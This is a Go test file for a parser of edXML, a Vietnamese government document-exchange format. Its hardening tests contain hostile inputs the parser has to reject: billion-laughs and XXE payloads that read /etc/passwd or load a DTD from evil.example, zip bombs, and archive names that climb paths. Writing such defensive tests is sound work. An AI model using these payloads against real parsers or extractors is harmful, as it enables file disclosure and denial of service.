package edxml

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"errors"
	"fmt"
	"reflect"
	"strings"
	"testing"
	"time"

	"cddh-sync/connectors"
)

func TestRoundTrip(t *testing.T) {
	t.Parallel()
	full := samplePackage(t)
	minimal := Package{From: Organization{OrganID: "000.00.00.H20"}, Subject: "Về việc báo cáo"}
	revoke := samplePackage(t)
	revoke.Business = &Business{DocType: BusinessReplace, Reason: "Thay thế do sai sót", Paper: 1, Replaces: []string{"000.00.00.H20,2026/03/01,40/TB-UBND"}}
	revoke.Other.Priority = PriorityFlashTimed
	revoke.Steering = SteeringReport
	revoke.Attachments = nil
	for name, p := range map[string]Package{"full": full, "minimal": minimal, "replace": revoke} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			raw := mustBuild(t, p)
			got, err := Parse(raw, Limits{})
			if err != nil {
				t.Fatalf("Parse: %v\n%s", err, raw)
			}
			if !bytes.Equal(got.Raw, raw) {
				t.Error("Raw is not the parsed bytes")
			}
			if got.HasSignature {
				t.Error("HasSignature on an unsigned package")
			}
			got.Raw = nil
			if !reflect.DeepEqual(*got, p) {
				t.Errorf("round trip differs:\n got %+v\nwant %+v", *got, p)
			}
		})
	}
}

// A package written the way many senders do: a root in the default namespace and
// prefixed children, with dd/MM/yyyy and ISO dates.
const variantTemplate = `<?xml version="1.0" encoding="UTF-8"?>
<%[1]sedXML %[2]s>
 <%[1]sedXMLEnvelope>
  <%[1]sedXMLHeader>
   <%[1]sMessageHeader>
    <%[1]sFrom><%[1]sOrganId>000.00.00.H20</%[1]sOrganId><%[1]sOrganName>UBND tỉnh</%[1]sOrganName></%[1]sFrom>
    <%[1]sTo><%[1]sOrganId>000.00.01.H20</%[1]sOrganId></%[1]sTo>
    <%[1]sCode><%[1]sCodeNumber>45</%[1]sCodeNumber><%[1]sCodeNotation>TB-UBND</%[1]sCodeNotation></%[1]sCode>
    <%[1]sPromulgationInfo><%[1]sPlace>Đồng Tháp</%[1]sPlace><%[1]sPromulgationDate>10/03/2026</%[1]sPromulgationDate></%[1]sPromulgationInfo>
    <%[1]sSubject><![CDATA[Về việc <khẩn> & quan trọng]]></%[1]sSubject>
    <%[1]sDueDate>2026-03-25</%[1]sDueDate>
    <%[1]sOtherInfo><%[1]sPriority>3</%[1]sPriority></%[1]sOtherInfo>
    <%[1]sSteeringType>1</%[1]sSteeringType>
   </%[1]sMessageHeader>
   %[3]s
  </%[1]sedXMLHeader>
  <%[1]sedXMLBody><%[1]sManifest/></%[1]sedXMLBody>
 </%[1]sedXMLEnvelope>
 <%[1]sAttachmentEncoded>
  <%[1]sAttachment><%[1]sContentId>a1</%[1]sContentId><%[1]sAttachmentName>a.pdf</%[1]sAttachmentName>
   <%[1]sContentTransferEncoded>%[4]s</%[1]sContentTransferEncoded></%[1]sAttachment>
 </%[1]sAttachmentEncoded>
</%[1]sedXML>`

func TestParsePrefixVariants(t *testing.T) {
	t.Parallel()
	data := b64("%PDF-1.4 hello")
	wrapped := data[:8] + "\n  " + data[8:] // line-wrapped base64
	tests := []struct {
		name, prefix, xmlns, sig string
		wantSig                  bool
	}{
		{"edXML prefix", "edXML:", `xmlns:edXML="` + Namespace + `"`, "", false},
		{"default namespace", "", `xmlns="` + Namespace + `"`, "", false},
		{"no namespace", "", "", "", false},
		{"other prefix", "ns2:", `xmlns:ns2="` + Namespace + `"`, "", false},
		{"ds signature", "edXML:", `xmlns:edXML="` + Namespace + `"`,
			`<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo/></ds:Signature>`, true},
		{"unprefixed signature in edXML namespace", "", `xmlns="` + Namespace + `"`,
			`<Signature><SignedInfo/><SignatureValue>AAAA</SignatureValue></Signature>`, true},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			raw := fmt.Sprintf(variantTemplate, tc.prefix, tc.xmlns, tc.sig, wrapped)
			p, err := Parse([]byte(raw), Limits{})
			if err != nil {
				t.Fatalf("Parse: %v", err)
			}
			if p.HasSignature != tc.wantSig {
				t.Errorf("HasSignature = %v, want %v", p.HasSignature, tc.wantSig)
			}
			if p.From.OrganID != "000.00.00.H20" || len(p.To) != 1 || p.Code != (Code{"45", "TB-UBND"}) {
				t.Errorf("header: %+v %+v %+v", p.From, p.To, p.Code)
			}
			if !p.Promulgation.Date.Equal(day(2026, 3, 10)) || !p.DueDate.Equal(day(2026, 3, 25)) {
				t.Errorf("dates: %v %v", p.Promulgation.Date, p.DueDate)
			}
			if p.Subject != "Về việc <khẩn> & quan trọng" {
				t.Errorf("Subject = %q", p.Subject)
			}
			if p.Other.Priority != PriorityFlash || p.Steering != SteeringDirective {
				t.Errorf("priority %v steering %v", p.Other.Priority, p.Steering)
			}
			if len(p.Attachments) != 1 || string(p.Attachments[0].Data) != "%PDF-1.4 hello" {
				t.Errorf("attachments: %+v", p.Attachments)
			}
		})
	}
}

func TestParseDates(t *testing.T) {
	t.Parallel()
	tests := []struct {
		in   string
		want time.Time
		ok   bool
	}{
		{"2026/03/10", day(2026, 3, 10), true},
		{"2026/3/9", day(2026, 3, 9), true},
		{"2026-03-10", day(2026, 3, 10), true},
		{"10/03/2026", day(2026, 3, 10), true},
		{"9/3/2026", day(2026, 3, 9), true},
		{"2026/03/10 08:30:00", day(2026, 3, 10), true},
		{"", time.Time{}, true},
		{"31/02/2026", time.Time{}, false},
		{"ngày 10 tháng 3", time.Time{}, false},
	}
	for _, tc := range tests {
		got, err := parseDate(tc.in, "X")
		if (err == nil) != tc.ok {
			t.Errorf("parseDate(%q) err = %v, want ok=%v", tc.in, err, tc.ok)
			continue
		}
		if tc.ok && !got.Equal(tc.want) {
			t.Errorf("parseDate(%q) = %v, want %v", tc.in, got, tc.want)
		}
		if tc.ok && !got.IsZero() && got.Location() != connectors.Zone {
			t.Errorf("parseDate(%q) not in connectors.Zone", tc.in)
		}
	}
}

func TestPriorityWord(t *testing.T) {
	t.Parallel()
	want := map[Priority]string{PriorityNormal: "Thường", PriorityUrgent: "Khẩn", PriorityVeryUrgent: "Thượng khẩn",
		PriorityFlash: "Hỏa tốc", PriorityFlashTimed: "Hỏa tốc hẹn giờ", 9: ""}
	for p, w := range want {
		if got := p.Word(); got != w {
			t.Errorf("Priority(%d).Word() = %q, want %q", p, got, w)
		}
	}
}

func TestHostile(t *testing.T) {
	t.Parallel()
	laughs := `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol9 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<edXMLEnvelope><edXMLHeader><MessageHeader><Subject>&lol9;</Subject></MessageHeader></edXMLHeader></edXMLEnvelope>`
	xxe := `<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<edXMLEnvelope><edXMLHeader><MessageHeader><Subject>&xxe;</Subject></MessageHeader></edXMLHeader></edXMLEnvelope>`
	bareEntity := `<?xml version="1.0"?><!ENTITY x "y"><edXMLEnvelope/>`
	undeclared := `<edXMLEnvelope><edXMLHeader><MessageHeader><Subject>&xxe;</Subject></MessageHeader></edXMLHeader></edXMLEnvelope>`
	deep := repeat("<a>", 100) + repeat("</a>", 100)
	many := "<edXMLEnvelope>" + repeat("<x/>", 30) + "</edXMLEnvelope>"
	tests := []struct {
		name   string
		raw    string
		limits Limits
		want   []error // any of
	}{
		{"billion laughs", laughs, Limits{}, []error{ErrDoctype}},
		{"xxe", xxe, Limits{}, []error{ErrDoctype}},
		{"bare entity declaration", bareEntity, Limits{}, []error{ErrEntity}},
		{"external dtd", `<?xml version="1.0"?><!DOCTYPE edXML SYSTEM "file:///etc/passwd"><edXMLEnvelope/>`, Limits{}, []error{ErrDoctype}},
		{"parameter entity", `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><edXMLEnvelope/>`, Limits{}, []error{ErrDoctype}},
		{"doctype after root", `<edXMLEnvelope/><!DOCTYPE x>`, Limits{}, []error{ErrDoctype, ErrMalformed}},
		{"undeclared entity reference", undeclared, Limits{}, []error{ErrEntity, ErrMalformed}},
		{"deep nesting", deep, Limits{}, []error{ErrTooDeep}},
		{"too many elements", many, Limits{MaxElements: 20}, []error{ErrTooManyElements}},
		{"too large", many, Limits{MaxPackageBytes: 50}, []error{ErrTooLarge}},
		{"not xml", "PK\x03\x04 binary", Limits{}, []error{ErrMalformed}},
		{"empty", "", Limits{}, []error{ErrMalformed}},
		{"not edxml", "<html><body/></html>", Limits{}, []error{ErrNotEdXML}},
		{"unclosed", "<edXMLEnvelope><a></edXMLEnvelope>", Limits{}, []error{ErrMalformed}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			for _, parse := range []func([]byte, Limits) error{
				func(b []byte, l Limits) error { _, err := Parse(b, l); return err },
				func(b []byte, l Limits) error { _, err := ParseStatus(b, l); return err },
			} {
				err := parse([]byte(tc.raw), tc.limits)
				if err == nil {
					t.Fatal("accepted hostile input")
				}
				if tc.name == "not edxml" { // ParseStatus also says ErrNotEdXML
					if !errors.Is(err, ErrNotEdXML) {
						t.Errorf("err = %v", err)
					}
					continue
				}
				matched := false
				for _, w := range tc.want {
					matched = matched || errors.Is(err, w)
				}
				if !matched {
					t.Errorf("err = %v, want one of %v", err, tc.want)
				}
				if strings.Contains(err.Error(), "root:") {
					t.Errorf("error leaks file content: %v", err)
				}
			}
		})
	}
}

// bombZip returns a zip with one entry whose deflate stream inflates to n zero bytes,
// declaring `declared` as its size. The stream is produced from a small reused buffer,
// so nothing of size n is allocated.
func bombZip(t testing.TB, n int64, declared uint64) []byte {
	t.Helper()
	var comp bytes.Buffer
	fw, err := flate.NewWriter(&comp, flate.BestCompression)
	if err != nil {
		t.Fatal(err)
	}
	zeros := make([]byte, 1<<20)
	for left := n; left > 0; left -= int64(len(zeros)) {
		chunk := zeros
		if left < int64(len(chunk)) {
			chunk = chunk[:left]
		}
		if _, err := fw.Write(chunk); err != nil {
			t.Fatal(err)
		}
	}
	if err := fw.Close(); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	w, err := zw.CreateRaw(&zip.FileHeader{Name: "bao-cao.txt", Method: zip.Deflate,
		CompressedSize64: uint64(comp.Len()), UncompressedSize64: declared})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := w.Write(comp.Bytes()); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func withAttachments(t testing.TB, atts ...Attachment) []byte {
	p := Package{From: Organization{OrganID: "000.00.00.H20"}, Subject: "Báo cáo", Attachments: atts}
	return mustBuild(t, p)
}

func TestZipHardening(t *testing.T) {
	t.Parallel()
	small := Limits{MaxUnzippedBytes: 1 << 20} // 1 MiB keeps the test light
	tests := []struct {
		name   string
		data   []byte
		limits Limits
		want   error
	}{
		{"declares 1 GiB", bombZip(t, 2<<20, 1<<30), small, ErrZipBomb},
		{"lies about its size", bombZip(t, 2<<20, 100), small, ErrZipBomb},
		{"inflates 1000 times", bombZip(t, 2<<20, 2<<20), Limits{}, ErrZipBomb},
		{"zip nested three deep", makeZip(t, [2]string{"inner.zip", string(makeZip(t, [2]string{"deeper.zip", string(makeZip(t, [2]string{"a.txt", "a"}))}))}), Limits{}, ErrNestedZip},
		{"broken zip inside a zip", makeZip(t, [2]string{"inner.zip", "PK\x03\x04" + repeat("x", 40)}), Limits{}, ErrMalformed},
		{"dot-dot", makeZip(t, [2]string{"../../etc/cron.d/x", "x"}), Limits{}, ErrUnsafeName},
		{"absolute", makeZip(t, [2]string{"/etc/passwd", "x"}), Limits{}, ErrUnsafeName},
		{"windows drive", makeZip(t, [2]string{`C:\Windows\x.exe`, "x"}), Limits{}, ErrUnsafeName},
		{"backslash climb", makeZip(t, [2]string{`a\..\..\x`, "x"}), Limits{}, ErrUnsafeName},
		{"too many entries", makeZip(t, [2]string{"a", "1"}, [2]string{"b", "2"}, [2]string{"c", "3"}), Limits{MaxZipEntries: 2}, ErrZipBomb},
		{"corrupt zip", append([]byte("PK\x03\x04"), repeat("x", 40)...), Limits{}, ErrMalformed},
		{"attachment too large", []byte(repeat("a", 2000)), Limits{MaxAttachmentBytes: 1000}, ErrTooLarge},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			// The bad attachment is refused with its reason; the package and the
			// good attachment beside it are kept.
			good := Attachment{ContentID: "ok", Name: "ok.pdf", Data: []byte("%PDF-1.7 ok")}
			raw := withAttachments(t, good, Attachment{ContentID: "z", Name: "x.zip", Data: tc.data})
			p, err := Parse(raw, tc.limits)
			if err != nil {
				t.Fatalf("Parse: %v", err)
			}
			if p.Subject != "Báo cáo" || len(p.Attachments) != 2 {
				t.Fatalf("package not kept: %+v", p)
			}
			if a := p.Attachments[0]; a.Err != nil || string(a.Data) != "%PDF-1.7 ok" {
				t.Errorf("good attachment: %+v", a)
			}
			bad := p.Attachments[1]
			if !errors.Is(bad.Err, tc.want) {
				t.Fatalf("err = %v, want %v", bad.Err, tc.want)
			}
			if bad.Entries != nil || bad.Name != "x.zip" || !strings.Contains(bad.Err.Error(), `attachment 2 ("x.zip")`) {
				t.Errorf("refused attachment: name %q entries %v err %v", bad.Name, bad.Entries, bad.Err)
			}
		})
	}
	t.Run("budget shared across attachments", func(t *testing.T) {
		t.Parallel()
		z := makeZip(t, [2]string{"a.txt", repeat("x", 600)})
		raw := withAttachments(t, Attachment{ContentID: "1", Name: "1.zip", Data: z}, Attachment{ContentID: "2", Name: "2.zip", Data: z})
		p, err := Parse(raw, Limits{MaxUnzippedBytes: 1000})
		if err != nil || p.Attachments[0].Err != nil || !errors.Is(p.Attachments[1].Err, ErrZipBomb) {
			t.Fatalf("over budget: %v, %+v", err, p)
		}
		p, err = Parse(raw, Limits{MaxUnzippedBytes: 1200})
		if err != nil || p.Attachments[0].Err != nil || p.Attachments[1].Err != nil {
			t.Fatalf("within budget: %v %v %v", err, p.Attachments[0].Err, p.Attachments[1].Err)
		}
	})
	t.Run("too many attachments", func(t *testing.T) {
		t.Parallel()
		raw := withAttachments(t, Attachment{ContentID: "1"}, Attachment{ContentID: "2"}, Attachment{ContentID: "3"})
		if _, err := Parse(raw, Limits{MaxAttachments: 2}); !errors.Is(err, ErrTooLarge) {
			t.Fatalf("err = %v, want ErrTooLarge", err)
		}
	})
}

func TestZipBombDefaultLimits(t *testing.T) {
	// A 1 GiB-declared entry against the default 100 MiB budget, and a lying header
	// whose stream inflates to 101 MiB: both refused without inflating it all.
	if testing.Short() {
		t.Skip("inflates about 100 MiB")
	}
	t.Parallel()
	for _, z := range [][]byte{bombZip(t, 1<<20, 1<<30), bombZip(t, 101<<20, 1024)} {
		p, err := Parse(withAttachments(t, Attachment{ContentID: "bomb", Name: "bomb.zip", Data: z}), Limits{})
		if err != nil || !errors.Is(p.Attachments[0].Err, ErrZipBomb) {
			t.Fatalf("err = %v / %v, want ErrZipBomb", err, p.Attachments[0].Err)
		}
	}
}

func TestParseFieldErrors(t *testing.T) {
	t.Parallel()
	base := func(mh string) string {
		return `<edXMLEnvelope><edXMLHeader><MessageHeader>` + mh + `</MessageHeader></edXMLHeader></edXMLEnvelope>`
	}
	tests := map[string]string{
		"bad date":      base(`<DueDate>hôm nay</DueDate>`),
		"bad priority":  base(`<OtherInfo><Priority>7</Priority></OtherInfo>`),
		"text priority": base(`<OtherInfo><Priority>khẩn</Priority></OtherInfo>`),
		"bad business":  `<edXMLEnvelope><edXMLHeader><MessageHeader/><TraceHeaderList><Bussiness><BussinessDocType>9</BussinessDocType></Bussiness></TraceHeaderList></edXMLHeader></edXMLEnvelope>`,
	}
	for name, raw := range tests {
		if _, err := Parse([]byte(raw), Limits{}); !errors.Is(err, ErrMalformed) {
			t.Errorf("%s: err = %v, want ErrMalformed", name, err)
		}
	}
}

func TestStatusRoundTrip(t *testing.T) {
	t.Parallel()
	for _, code := range []StatusCode{StatusArrived, StatusRefused, StatusAccepted, StatusAssigned,
		StatusInProgress, StatusDone, StatusRecallRequest, StatusRecallAgreed, StatusRecallRefused} {
		s := Status{
			ResponseFor: ResponseFor{OrganID: "000.00.00.H20", Code: "45/TB-UBND", PromulgationDate: day(2026, 3, 10), DocumentID: "000.00.00.H20,2026/03/10,45/TB-UBND"},
			From:        Organization{OrganID: "000.00.01.H20", OrganName: "Sở Tài chính"},
			Code:        code,
			Description: "Đã tiếp nhận báo cáo và đối chiếu nhiệm vụ",
			Timestamp:   time.Date(2026, 3, 21, 9, 15, 0, 0, connectors.Zone),
			Staff:       StaffInfo{Department: "Văn phòng", Staff: "Lê Văn Cường", Mobile: "0900000000"},
		}
		raw, err := BuildStatus(s)
		if err != nil {
			t.Fatalf("BuildStatus(%s): %v", code, err)
		}
		got, err := ParseStatus(raw, Limits{})
		if err != nil {
			t.Fatalf("ParseStatus(%s): %v\n%s", code, err, raw)
		}
		if !reflect.DeepEqual(*got, s) {
			t.Errorf("status %s round trip:\n got %+v\nwant %+v", code, *got, s)
		}
	}
	if _, err := BuildStatus(Status{Code: "99"}); err == nil {
		t.Error("BuildStatus accepted code 99")
	}
}

func TestParseStatusVariants(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, raw string
		want      StatusCode
		err       error
	}{
		{"flat, default namespace, one-digit code",
			`<Status xmlns="` + Namespace + `"><ResponseFor><Code>45/TB-UBND</Code></ResponseFor><StatusCode>3</StatusCode><Timestamp>21/03/2026 09:15:00</Timestamp></Status>`,
			StatusAccepted, nil},
		{"wrapped in edXML root",
			`<edXML><edXML:Status xmlns:edXML="` + Namespace + `"><edXML:Header><edXML:MessageHeader><edXML:StatusCode>16</edXML:StatusCode></edXML:MessageHeader></edXML:Header></edXML:Status></edXML>`,
			StatusRecallRefused, nil},
		{"unknown code", `<Status><StatusCode>42</StatusCode></Status>`, "", ErrMalformed},
		{"no code", `<Status><Description>x</Description></Status>`, "", ErrNotEdXML},
		{"bad timestamp", `<Status><StatusCode>01</StatusCode><Timestamp>sáng nay</Timestamp></Status>`, "", ErrMalformed},
	}
	for _, tc := range tests {
		got, err := ParseStatus([]byte(tc.raw), Limits{})
		if tc.err != nil {
			if !errors.Is(err, tc.err) {
				t.Errorf("%s: err = %v, want %v", tc.name, err, tc.err)
			}
			continue
		}
		if err != nil || got.Code != tc.want {
			t.Errorf("%s: got %+v, %v; want code %s", tc.name, got, err, tc.want)
		}
	}
}
